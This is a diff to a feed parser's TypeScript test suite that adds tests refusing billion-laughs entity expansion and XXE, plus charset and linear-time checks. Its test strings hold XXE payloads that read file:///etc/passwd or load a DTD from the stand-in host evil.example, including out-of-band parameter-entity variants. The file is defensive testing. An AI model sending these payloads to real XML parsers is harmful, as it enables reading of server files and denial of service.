@@ -235,16 +235,20 @@ test('a UTF-8 byte order mark before the prolog', () => {
   assert.equal(feed.title, 'Old School');
 });
 
-test('billion laughs: entities are not expanded, and parsing is quick', () => {
+const BILLION_LAUGHS =
+  /^refused: the feed declares XML entities that expand other entities \(billion laughs\)$/;
+const XXE = /^refused: the feed declares an external XML entity \(XXE\)$/;
+const withSubset = (subset: string, title = 'T'): string =>
+  `<?xml version="1.0"?>\n<!DOCTYPE rss [${subset}]>\n${rss('<item><title>i</title></item>', `<title>${title}</title>`)}`;
+
+test('billion laughs: refused before parsing, quickly', () => {
   const started = performance.now();
-  const feed = parse(fixture('billion-laughs.xml'));
+  rejects(fixture('billion-laughs.xml'), BILLION_LAUGHS);
   assert.ok(performance.now() - started < 1000);
-  assert.equal(feed.title, 'Laughs &lol9;');
-  assert.ok(JSON.stringify(feed).length < 2000, 'nothing expanded');
 });
 
 test('XXE: an external entity is refused and no file is read', () => {
-  rejects(fixture('xxe.xml'), /^malformed XML: External entities are not supported$/);
+  rejects(fixture('xxe.xml'), XXE);
   let message = '';
   try {
     parse(fixture('xxe.xml'));
@@ -252,6 +256,73 @@ test('XXE: an external entity is refused and no file is read', () => {
     message = String(err);
   }
   assert.doesNotMatch(message, /root:/);
+});
+
+test('every way of declaring an external or expanding entity is refused', () => {
+  const external = [
+    '<!ENTITY x PUBLIC "-//A//B" "http://evil.example/x.dtd">',
+    '<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;',
+    '<!ENTITY\n  x\tSYSTEM\n"file:///etc/passwd"  >',
+    '<!ENTITY a "]>"><!ENTITY x SYSTEM "file:///etc/passwd">', // a "]>" in a value does not end the subset
+    '<!-- ]> --><!ENTITY x SYSTEM "file:///etc/passwd">',
+    // A parameter entity that declares one when expanded, as out-of-band XXE payloads do.
+    `<!ENTITY % p "<!ENTITY x SYSTEM 'file:///etc/passwd'>"> %p;`,
+    '<!ENTITY % p "&#60;!ENTITY x SYSTEM &#39;file:///etc/passwd&#39;>"> %p;',
+    '<!ELEMENT rss ANY><!ATTLIST rss v CDATA "]>"><?pi ]> ?><!ENTITY x SYSTEM "file:///x">',
+  ];
+  for (const subset of external) rejects(withSubset(subset), XXE);
+  const expanding = [
+    '<!ENTITY a "ha"><!ENTITY b "&a;&a;">',
+    "<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>",
+    '<!ENTITY a "ha"><!ENTITY b "&#38;a;&#x26;a;">', // character references that spell a reference
+    '<!ENTITY % p "ha"><!ENTITY b "%p;">',
+    '<!ENTITY % p "&#37;q;">',
+    `<!ENTITY % p "<!ENTITY a 'ha'><!ENTITY b '&#38;a;'>"> %p;`,
+  ];
+  for (const subset of expanding) rejects(withSubset(subset), BILLION_LAUGHS);
+});
+
+test('a DOCTYPE without entities, or with plain-text ones, is read as before', () => {
+  const feeds = [
+    withSubset(''),
+    withSubset('<!ENTITY brand "Tea &amp; Biscuits &#169; 2024">', 'T &brand;'),
+    withSubset('<!ENTITY x \'one\'><!ENTITY y "two &#x2014; 50% off"><!-- &a; -->'),
+    withSubset('<!ELEMENT rss ANY><!ATTLIST rss version CDATA #IMPLIED>'),
+    withSubset('<!ENTITY sig "<b>Me</b> &amp; co">'),
+  ];
+  for (const doc of feeds) {
+    const feed = parse(doc);
+    assert.equal(feed.format, 'rss');
+    assert.equal(item(feed, 0).title, 'i');
+  }
+  assert.equal(parse(feeds[1] ?? '').title, 'T &brand;', 'declared entities are never expanded');
+  assert.equal(parse(fixture('rss091.xml')).title, 'Old School', 'the Netscape RSS 0.91 DOCTYPE');
+});
+
+test('a declared charset Tidings does not know is an error, wherever it is declared', () => {
+  const doc = rss('<item><title>Café</title></item>');
+  assert.throws(
+    () => parse(doc, { contentType: 'application/rss+xml; charset=x-no-such-charset' }),
+    (err: unknown) =>
+      err instanceof FeedParseError && err.message === 'unsupported charset "x-no-such-charset"',
+  );
+  rejects(`<?xml version="1.0" encoding="klingon"?>${doc}`, /^unsupported charset "klingon"$/);
+  // What is not consulted is not judged: a byte order mark wins over the header, the header over the prolog.
+  const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(doc)]);
+  assert.equal(item(parse(bom, { contentType: 'text/xml; charset=klingon' }), 0).title, 'Café');
+  const prolog = `<?xml version="1.0" encoding="klingon"?>${doc}`;
+  assert.equal(item(parse(prolog, { contentType: 'text/xml; charset=utf-8' }), 0).title, 'Café');
+});
+
+test('a declared multi-byte charset the bytes do not fit ends in the error decoding it gives', () => {
+  const doc = Buffer.from(rss('<item><title>Café</title></item>'));
+  for (const charset of ['utf-16', 'utf-16be', 'utf-32']) {
+    assert.throws(
+      () => parse(doc, { contentType: `application/rss+xml; charset=${charset}` }),
+      (err: unknown) => err instanceof FeedParseError && err.message === 'not a feed: no XML element found',
+      charset,
+    );
+  }
 });
 
 test('what is not a feed fails with a typed error and a clear message', () => {
@@ -280,7 +351,10 @@ test('a feed with nothing in it yet is an empty feed, not an error', () => {
 test('parsing stays linear on hostile input', () => {
   const unclosed = rss(`<item><title>x</title><description>${'&lt;a '.repeat(200_000)}</description></item>`);
   const brackets = `<!DOCTYPE x [${'['.repeat(200_000)}<rss/>`;
-  for (const doc of [unclosed, brackets]) {
+  const subsets = ['<!ENTITY a "', '<!ENTITY a "x">', '<!', ']', '<!x "', '<!ENTITY ', '<!--'].map(
+    (piece) => `<!DOCTYPE x [${piece.repeat(100_000)}]><rss/>`,
+  );
+  for (const doc of [unclosed, brackets, ...subsets]) {
     const started = performance.now();
     try {
       parse(doc);
